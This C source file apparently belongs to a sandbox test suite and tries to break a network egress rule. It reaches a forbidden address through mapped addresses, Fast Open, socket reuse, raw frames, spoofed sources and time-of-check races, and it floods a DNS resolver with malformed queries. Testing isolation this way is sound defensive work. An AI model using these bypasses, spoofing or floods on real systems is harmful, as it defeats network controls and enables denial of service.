// SPDX-License-Identifier: Apache-2.0
// escape_traffic ATTACK GOOD PORT EVIL PORT …: sends to EVIL, an address of either family, in each
// way that there is, where a rule lets out GOOD only. What was sent is counted outside.
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <ifaddrs.h>
#include <linux/if_alg.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/rtnetlink.h>
#include <linux/vm_sockets.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

#ifndef IPPROTO_SMC
#define IPPROTO_SMC 256
#endif

union Address {
  struct sockaddr any;
  struct sockaddr_in four;
  struct sockaddr_in6 six;
};
static union Address good, evil;

static socklen_t SizeOf(const union Address* address) {
  return address->any.sa_family == AF_INET ? sizeof address->four : sizeof address->six;
}
static union Address Read(const char* text, const char* port) {
  union Address address;
  memset(&address, 0, sizeof address);
  const uint16_t number = htons((uint16_t)atoi(port));
  if (inet_pton(AF_INET, text, &address.four.sin_addr) == 1) {
    address.four.sin_family = AF_INET;
    address.four.sin_port = number;
  } else if (inet_pton(AF_INET6, text, &address.six.sin6_addr) == 1) {
    address.six.sin6_family = AF_INET6;
    address.six.sin6_port = number;
  }
  return address;
}
static bool TakeEnds(char** arguments) {
  good = Read(arguments[0], arguments[1]);
  evil = Read(arguments[2], arguments[3]);
  return good.any.sa_family != 0 && good.any.sa_family == evil.any.sa_family;
}
static int Socket(int type, int protocol) {
  return socket(good.any.sa_family, type, protocol);
}
static int Connect(int fd, const union Address* to) {
  return connect(fd, &to->any, SizeOf(to));
}
// Waits until a connect that does not block has got somewhere.
static void Settle(int fd) {
  struct pollfd wait = {.fd = fd, .events = POLLOUT};
  poll(&wait, 1, 1000);
}

// ---- Every way to send to an address. Each returns what its last call did; the capture counts.

static long Plain(char** unused) {
  (void)unused;
  return Connect(Socket(SOCK_STREAM, 0), &evil);
}
static long NonBlocking(char** unused) {
  (void)unused;
  const int fd = Socket(SOCK_STREAM | SOCK_NONBLOCK, 0);
  if (Connect(fd, &evil) != 0 && errno != EINPROGRESS) return -1;
  Settle(fd);
  return 0;
}
static long Mapped(char** unused) {
  (void)unused;
  if (good.any.sa_family != AF_INET) return -1;
  union Address to;
  memset(&to, 0, sizeof to);
  to.six.sin6_family = AF_INET6;
  to.six.sin6_port = evil.four.sin_port;
  to.six.sin6_addr.s6_addr[10] = to.six.sin6_addr.s6_addr[11] = 0xff;
  memcpy(&to.six.sin6_addr.s6_addr[12], &evil.four.sin_addr, 4);
  return connect(socket(AF_INET6, SOCK_STREAM, 0), &to.any, sizeof to.six);
}
static long FastOpen(char** unused) {
  (void)unused;
  return sendto(Socket(SOCK_STREAM, 0), "x", 1, MSG_FASTOPEN, &evil.any, SizeOf(&evil));
}
static long FastOpenConnect(char** unused) {
  (void)unused;
  const int on = 1, fd = Socket(SOCK_STREAM, 0);
  setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof on);
  return Connect(fd, &evil) < 0 || send(fd, "x", 1, MSG_NOSIGNAL) < 0 ? -1 : 0;
}
// A socket that was let out once is dissolved and connected anew.
static long Again(char** unused) {
  (void)unused;
  const struct sockaddr nowhere = {.sa_family = AF_UNSPEC};
  const int fd = Socket(SOCK_STREAM, 0);
  if (Connect(fd, &good) != 0) return -1;
  connect(fd, &nowhere, sizeof nowhere);
  return Connect(fd, &evil);
}
// Data for somebody else over a connection that was let out.
static long SendElsewhere(char** unused) {
  (void)unused;
  const int fd = Socket(SOCK_STREAM, 0);
  if (Connect(fd, &good) != 0) return -1;
  return sendto(fd, "x", 1, MSG_NOSIGNAL, &evil.any, SizeOf(&evil));
}
static long FromPortOfGood(char** unused) {
  (void)unused;
  const int on = 1, fd = Socket(SOCK_STREAM, 0);
  union Address own = {0};
  own.any.sa_family = good.any.sa_family;
  own.four.sin_port = htons(4443);  // at the same place in both
  setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
  if (bind(fd, &own.any, SizeOf(&own)) != 0) return -1;
  return Connect(fd, &evil);
}
static long Datagram(char** unused) {
  (void)unused;
  return sendto(Socket(SOCK_DGRAM, 0), "one", 3, 0, &evil.any, SizeOf(&evil));
}
static long DatagramMessage(char** unused) {
  (void)unused;
  struct iovec data = {.iov_base = "two", .iov_len = 3};
  const struct msghdr message = {
      .msg_name = &evil.any, .msg_namelen = SizeOf(&evil), .msg_iov = &data, .msg_iovlen = 1};
  return sendmsg(Socket(SOCK_DGRAM, 0), &message, 0);
}
// The first is for whom it may be.
static long DatagramMessages(char** unused) {
  (void)unused;
  struct iovec data = {.iov_base = "three", .iov_len = 5};
  struct mmsghdr many[4];
  memset(many, 0, sizeof many);
  for (int i = 0; i < 4; i++) {
    many[i].msg_hdr.msg_name = i % 2 == 0 ? &good : &evil;
    many[i].msg_hdr.msg_namelen = SizeOf(&evil);
    many[i].msg_hdr.msg_iov = &data;
    many[i].msg_hdr.msg_iovlen = 1;
  }
  return sendmmsg(Socket(SOCK_DGRAM, 0), many, 4, 0);
}
static long DatagramConnected(char** unused) {
  (void)unused;
  const int fd = Socket(SOCK_DGRAM, 0);
  return Connect(fd, &evil) < 0 ? -1 : send(fd, "four", 4, 0);
}
// Connected to the one, sent to the other.
static long DatagramElsewhere(char** unused) {
  (void)unused;
  const int fd = Socket(SOCK_DGRAM, 0);
  if (Connect(fd, &good) != 0) return -1;
  return sendto(fd, "five", 4, 0, &evil.any, SizeOf(&evil));
}
static int Ways(char** arguments) {
  static const struct Way kWays[] = {{"plain", Plain},
                                     {"non-blocking", NonBlocking},
                                     {"mapped", Mapped},
                                     {"fast-open", FastOpen},
                                     {"fast-open-connect", FastOpenConnect},
                                     {"again", Again},
                                     {"send-elsewhere", SendElsewhere},
                                     {"from-a-port", FromPortOfGood},
                                     {"datagram", Datagram},
                                     {"datagram-message", DatagramMessage},
                                     {"datagram-messages", DatagramMessages},
                                     {"datagram-connected", DatagramConnected},
                                     {"datagram-elsewhere", DatagramElsewhere}};
  if (!TakeEnds(arguments)) return NotTried("no addresses");
  const int fd = Socket(SOCK_STREAM, 0);
  if (Connect(fd, &good) != 0) return NotTried("what is let out: %s", ErrorName());
  close(fd);
  TryWays(kWays, COUNT(kWays), arguments);
  return Held("sent what could be sent");
}

// ---- Other protocols and families.

static int OpenProtocol(int family, int type, int protocol) {
  const int fd = socket(family, type | SOCK_NONBLOCK, protocol);
  printf("  family %d type %d protocol %d: %s\n", family, type, protocol,
         fd < 0 ? ErrorName() : "made");
  return fd;
}
static bool SendOver(int type, int protocol, const char* bytes, size_t size) {
  const int family = good.any.sa_family;
  const int fd = OpenProtocol(family, type, protocol);
  if (fd < 0) return false;
  union Address to = evil;
  if (type == SOCK_RAW) to.four.sin_port = 0;  // at the same place in both
  const bool connected = connect(fd, &to.any, SizeOf(&to)) == 0 || errno == EINPROGRESS;
  if (type == SOCK_STREAM) Settle(fd);
  const bool sent = sendto(fd, bytes, size, MSG_NOSIGNAL | MSG_DONTWAIT, &to.any, SizeOf(&to)) > 0;
  return sent || connected;
}
// Whole frames past everything that looks at addresses: to whoever is at the other end of the
// cable.
static bool SendFrame(int type) {
  const int fd = OpenProtocol(AF_PACKET, type, 0);
  if (fd < 0) return false;
  struct ifaddrs* all = NULL;
  bool sent = false;
  getifaddrs(&all);
  for (const struct ifaddrs* one = all; one != NULL; one = one->ifa_next) {
    if ((one->ifa_flags & IFF_LOOPBACK) != 0) continue;
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_halen = 6};
    to.sll_protocol = htons(0x88b5);  // for experiments
    to.sll_ifindex = (int)if_nametoindex(one->ifa_name);
    memset(to.sll_addr, 0xff, 6);
    char frame[64] = {0};
    memset(frame, 0xff, 6);
    frame[12] = (char)0x88;
    frame[13] = (char)0xb5;
    sent = sendto(fd, frame, sizeof frame, 0, (const struct sockaddr*)&to, sizeof to) > 0 || sent;
  }
  freeifaddrs(all);
  return sent;
}
static int Protocols(char** arguments) {
  if (!TakeEnds(arguments)) return NotTried("no addresses");
  const bool four = good.any.sa_family == AF_INET;
  const int ping = four ? IPPROTO_ICMP : IPPROTO_ICMPV6;
  char echo[16] = {0};
  echo[0] = four ? ICMP_ECHO : (char)ICMP6_ECHO_REQUEST;
  int opened = 0;
  static const struct {
    int type, protocol;
  } kInternet[] = {{SOCK_STREAM, IPPROTO_MPTCP},   {SOCK_STREAM, IPPROTO_SCTP},
                   {SOCK_SEQPACKET, IPPROTO_SCTP}, {SOCK_DGRAM, IPPROTO_UDPLITE},
                   {SOCK_STREAM, IPPROTO_SMC},     {6 /* SOCK_DCCP */, IPPROTO_DCCP},
                   {SOCK_RAW, IPPROTO_RAW},        {SOCK_RAW, IPPROTO_TCP},
                   {SOCK_RAW, IPPROTO_UDP},        {SOCK_RAW, 253 /* for experiments */},
                   {SOCK_STREAM, 115 /* L2TP */},  {SOCK_DGRAM, 115}};
  for (size_t i = 0; i < COUNT(kInternet); i++)
    opened += SendOver(kInternet[i].type, kInternet[i].protocol, "0123456789abcdef", 16);
  opened += SendOver(SOCK_DGRAM, ping, echo, sizeof echo);
  opened += SendOver(SOCK_RAW, ping, echo, sizeof echo);
  opened += SendFrame(SOCK_RAW) + SendFrame(SOCK_DGRAM);
  static const struct {
    int family, type, protocol;
  } kOthers[] = {{43 /* AF_SMC */, SOCK_STREAM, 0},
                 {43, SOCK_STREAM, 1},
                 {AF_XDP, SOCK_RAW, 0},
                 {AF_VSOCK, SOCK_STREAM, 0},
                 {AF_VSOCK, SOCK_DGRAM, 0},
                 {AF_ALG, SOCK_SEQPACKET, 0},
                 {AF_BLUETOOTH, SOCK_RAW, 1},
                 {AF_CAN, SOCK_RAW, 1},
                 {AF_TIPC, SOCK_RDM, 0},
                 {AF_RDS, SOCK_SEQPACKET, 0},
                 {AF_KEY, SOCK_RAW, 2},
                 {AF_PPPOX, SOCK_DGRAM, 1},
                 {AF_KCM, SOCK_DGRAM, 0},
                 {AF_QIPCRTR, SOCK_DGRAM, 0},
                 {AF_PHONET, SOCK_DGRAM, 0},
                 {AF_IEEE802154, SOCK_DGRAM, 0},
                 {AF_NETLINK, SOCK_RAW, 12 /* netfilter */}};
  int made = 0;
  for (size_t i = 0; i < COUNT(kOthers); i++)
    made += OpenProtocol(kOthers[i].family, kOthers[i].type, kOthers[i].protocol) >= 0;
  const int number = opened + made;
  return number > 0 ? Won("%d of %zu ways", number, COUNT(kInternet) + 4 + COUNT(kOthers))
                    : Held("none of %zu ways", COUNT(kInternet) + 4 + COUNT(kOthers));
}

// ---- The cable that a cell has: its link, its addresses, its neighbours.

static bool AddAddress(void) {
  const int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
  struct {
    struct nlmsghdr head;
    struct ifaddrmsg body;
    struct rtattr attribute;
    struct in_addr address;
  } request = {.head = {.nlmsg_len = sizeof request,
                        .nlmsg_type = RTM_NEWADDR,
                        .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE},
               .body = {.ifa_family = AF_INET, .ifa_prefixlen = 32, .ifa_index = 100},
               .attribute = {.rta_len = sizeof(struct rtattr) + 4, .rta_type = IFA_LOCAL}};
  inet_pton(AF_INET, "203.0.113.200", &request.address);
  if (send(fd, &request, sizeof request, 0) < 0) return false;
  struct {
    struct nlmsghdr head;
    struct nlmsgerr body;
    char rest[256];
  } answer;
  return recv(fd, &answer, sizeof answer, 0) > 0 && answer.head.nlmsg_type == NLMSG_ERROR &&
         answer.body.error == 0;
}
static bool Promiscuous(void) {
  const int fd = socket(AF_INET, SOCK_DGRAM, 0);
  struct ifreq request = {0};
  if (if_indextoname(100, request.ifr_name) == NULL) return false;
  ioctl(fd, SIOCGIFFLAGS, &request);
  request.ifr_flags |= IFF_PROMISC;
  return ioctl(fd, SIOCSIFFLAGS, &request) == 0;
}
static bool ForeignSource(void) {
  const int on = 1, fd = socket(AF_INET, SOCK_DGRAM, 0);
  struct sockaddr_in source = {.sin_family = AF_INET};
  inet_pton(AF_INET, "203.0.113.201", &source.sin_addr);
  setsockopt(fd, IPPROTO_IP, IP_TRANSPARENT, &on, sizeof on);
  setsockopt(fd, IPPROTO_IP, IP_FREEBIND, &on, sizeof on);
  if (bind(fd, (const struct sockaddr*)&source, sizeof source) != 0) return false;
  return sendto(fd, "spoofed", 7, 0, &evil.any, SizeOf(&evil)) > 0;
}
static bool SetNeighbour(void) {
  const int fd = socket(AF_INET, SOCK_DGRAM, 0);
  struct ifreq request = {0};
  if (if_indextoname(100, request.ifr_name) == NULL) return false;
  request.ifr_hwaddr.sa_family = 1;
  memset(request.ifr_hwaddr.sa_data, 2, 6);
  return ioctl(fd, SIOCSIFHWADDR, &request) == 0;
}
// Another cell's end of its cable, and the gateway's, by their addresses on the link.
static bool OtherCell(const char* text) {
  const union Address to = Read(text, "9");
  const int fd = socket(to.any.sa_family, SOCK_DGRAM, 0);
  return sendto(fd, "neighbour", 9, 0, &to.any, SizeOf(&to)) > 0 && false;  // seen outside or not
}
static int Cable(char** arguments) {
  if (!TakeEnds(arguments)) return NotTried("no addresses");
  int won = 0;
#define TRIED(way)                                           \
  do {                                                       \
    errno = 0;                                               \
    const bool done = way;                                   \
    printf("  %s: %s\n", #way, done ? "done" : ErrorName()); \
    won += done;                                             \
  } while (0)
  TRIED(SendFrame(SOCK_RAW));
  TRIED(SendFrame(SOCK_DGRAM));
  TRIED(AddAddress());
  TRIED(Promiscuous());
  TRIED(SetNeighbour());
  OtherCell("198.18.0.2");
  OtherCell("198.18.0.3");
  OtherCell("fd63:656c:6c72:ffff::3");
  ForeignSource();  // the kernel may take it; what counts is where it arrives
  return won > 0 ? Won("%d of 5 ways", won) : Held("none of 5 ways");
}

// ---- Races.

static union Address shared;
static _Atomic int stop;
static int swapped = -1;

static void* FlipAddress(void* unused) {
  (void)unused;
  volatile unsigned char* bytes = (volatile unsigned char*)&shared;
  while (!stop) {
    for (int side = 0; side < 2; side++) {
      const unsigned char* from = (const unsigned char*)(side == 0 ? &evil : &good);
      for (size_t i = 0; i < sizeof shared; i++) bytes[i] = from[i];
    }
  }
  return NULL;
}
static void DropOnClose(int fd) {  // or the cell runs out of ports
  const struct linger now = {.l_onoff = 1, .l_linger = 0};
  setsockopt(fd, SOL_SOCKET, SO_LINGER, &now, sizeof now);
}
// The descriptor means one socket, and then another: a stream, datagrams, a non-blocking stream.
static void* FlipSocket(void* unused) {
  (void)unused;
  static const int kTypes[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_STREAM | SOCK_NONBLOCK};
  for (unsigned i = 0; !stop; i++) {
    const int made = Socket(kTypes[i % COUNT(kTypes)], 0);
    DropOnClose(made);
    dup2(made, swapped);
    close(made);
  }
  return NULL;
}
static bool IsGood(void) {
  return memcmp((const void*)&shared, &good, SizeOf(&good)) == 0;
}
// As a supervisor would look first.
static void AwaitGood(void) {
  for (int looks = 0; !IsGood() && looks < 1000; looks++) sched_yield();
}

static long connected, denied, failed;
static int last_error;
static void Note(long result) {
  if (result >= 0 || errno == EINPROGRESS) {
    connected++;
  } else if (errno == EACCES) {
    denied++;
  } else {
    failed++;
    last_error = errno;
  }
}
// A cell may have so many connects under way; more are refused before anything is looked at.
static long rests;
static bool Rested(long tries) {
  if (errno != EAGAIN || rests >= 10 * tries) return false;
  rests++;
  usleep(1000);
  return true;
}
static void RaceConnect(long tries, bool sockets) {
  for (long i = 0; i < tries; i++) {
    const int fd = sockets ? swapped : Socket(SOCK_STREAM, 0);
    if (!sockets) DropOnClose(fd);
    AwaitGood();
    errno = 0;
    const int result = connect(fd, &shared.any, SizeOf(&good));
    if (result < 0 && Rested(tries)) {
      i--;
    } else {
      Note(result);
    }
    if (sockets) {
      send(fd, "x", 1, MSG_NOSIGNAL | MSG_DONTWAIT);
    } else {
      close(fd);
    }
  }
}
static void RaceDatagrams(long tries) {
  const int plain = Socket(SOCK_DGRAM | SOCK_NONBLOCK, 0);
  struct iovec data = {.iov_base = "x", .iov_len = 1};
  struct mmsghdr one = {
      .msg_hdr = {
          .msg_name = &shared, .msg_namelen = SizeOf(&good), .msg_iov = &data, .msg_iovlen = 1}};
  for (long i = 0; i < tries; i++) {
    AwaitGood();
    errno = 0;
    if (i % 3 == 0) {
      const int fd = Socket(SOCK_DGRAM | SOCK_NONBLOCK, 0);
      Note(connect(fd, &shared.any, SizeOf(&good)));
      send(fd, "x", 1, 0);
      close(fd);
    } else if (i % 3 == 1) {
      Note(sendto(plain, "x", 1, 0, &shared.any, SizeOf(&good)));
    } else {
      Note(sendmmsg(plain, &one, 1, 0));
    }
  }
}
static int Race(char** arguments) {
  const char* kind = arguments[0];
  if (!TakeEnds(arguments + 1)) return NotTried("no addresses");
  const long tries = atol(arguments[5]);
  shared = good;
  pthread_t flippers[2];
  int count = 0;
  const bool sockets = strcmp(kind, "sockets") == 0;
  pthread_create(&flippers[count++], NULL, FlipAddress, NULL);
  if (sockets) {
    swapped = fcntl(Socket(SOCK_STREAM, 0), F_DUPFD, 100);
    pthread_create(&flippers[count++], NULL, FlipSocket, NULL);
  }
  if (strcmp(kind, "datagrams") == 0)
    RaceDatagrams(tries);
  else
    RaceConnect(tries, sockets);
  stop = 1;
  while (count > 0) pthread_join(flippers[--count], NULL);
  errno = last_error;
  printf("connected %ld denied %ld failed %ld (%s) rests %ld\n", connected, denied, failed,
         ErrorName(), rests);
  return 0;
}

// ---- A flood of questions to the cell's resolver.

static double Now(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}
// A byte at a time, of questions that never become whole.
static void* Drip(void* resolver) {
  enum { kStreams = 32 };
  int fds[kStreams];
  for (int i = 0; i < kStreams; i++) {
    fds[i] = socket(AF_INET, SOCK_STREAM, 0);
    connect(fds[i], resolver, sizeof(struct sockaddr_in));
  }
  while (!stop) {
    for (int i = 0; i < kStreams; i++) send(fds[i], "\0", 1, MSG_NOSIGNAL | MSG_DONTWAIT);
    usleep(50000);
  }
  return NULL;
}
static size_t PutName(unsigned char* to, const char* name) {
  unsigned char* at = to;
  while (*name != '\0') {
    const size_t label = strcspn(name, ".");
    *at++ = (unsigned char)label;
    memcpy(at, name, label);
    at += label;
    name += label + (name[label] == '.');
  }
  *at++ = 0;
  return (size_t)(at - to);
}
// Of several kinds: a name that is let out, ones that are not and each another, junk behind the
// question, names that point at themselves, and no question at all.
static size_t PutQuestion(unsigned char* to, unsigned number) {
  static const unsigned char kHead[12] = {0, 7, 1, 0, 0, 1};
  memcpy(to, kHead, sizeof kHead);
  size_t at = sizeof kHead;
  char name[64];
  snprintf(name, sizeof name, number % 2 == 0 ? "ok.example.com" : "n%u.example.org", number);
  switch (number % 8) {
    case 5:
      memcpy(to + at, "\3abc\xc0\x0c", 6);
      at += 6;
      break;
    case 7:
      memset(to + at, (int)number, 40);
      return at + 40;
    default:
      at += PutName(to + at, name);
  }
  memcpy(to + at, "\0\1\0\1", 4);
  at += 4;
  if (number % 8 == 6) {  // EDNS: a version that nobody has, and options of odd lengths
    to[11] = 1;
    memcpy(to + at, "\0\0\x29\xff\xff\0\x63\0\0\0\x08\xff\xfe\0\xffjunk", 19);
    at += 19;
  }
  return at;
}
static int Flood(char** arguments) {
  enum { kBatch = 64 };
  union Address resolver = Read(arguments[0], "53");
  const double until = Now() + atof(arguments[1]);
  pthread_t drip;
  pthread_create(&drip, NULL, Drip, &resolver);
  const int fd = socket(AF_INET, SOCK_DGRAM, 0);
  connect(fd, &resolver.any, sizeof resolver.four);
  static unsigned char bytes[kBatch][512];
  struct iovec data[kBatch];
  struct mmsghdr messages[kBatch];
  memset(messages, 0, sizeof messages);
  unsigned number = 0;
  long sent = 0;
  printf("flooding\n");
  fflush(stdout);
  const double begin = Now();
  while (Now() < until) {
    for (int i = 0; i < kBatch; i++) {
      data[i].iov_base = bytes[i];
      data[i].iov_len = PutQuestion(bytes[i], number++);
      messages[i].msg_hdr.msg_iov = &data[i];
      messages[i].msg_hdr.msg_iovlen = 1;
    }
    const int now = sendmmsg(fd, messages, kBatch, 0);
    sent += now > 0 ? now : 0;
    while (recv(fd, bytes[0], sizeof bytes[0], MSG_DONTWAIT) > 0) continue;
  }
  stop = 1;
  printf("%.0f a second\n", (double)sent / (Now() - begin));
  return 0;
}

int main(int argc, char** argv) {
  static const struct Attack kAttacks[] = {{"ways", 4, Ways},
                                           {"protocols", 4, Protocols},
                                           {"cable", 4, Cable},
                                           {"race", 6, Race},
                                           {"flood", 2, Flood}};
  return RunAttack(kAttacks, COUNT(kAttacks), argc, argv);
}
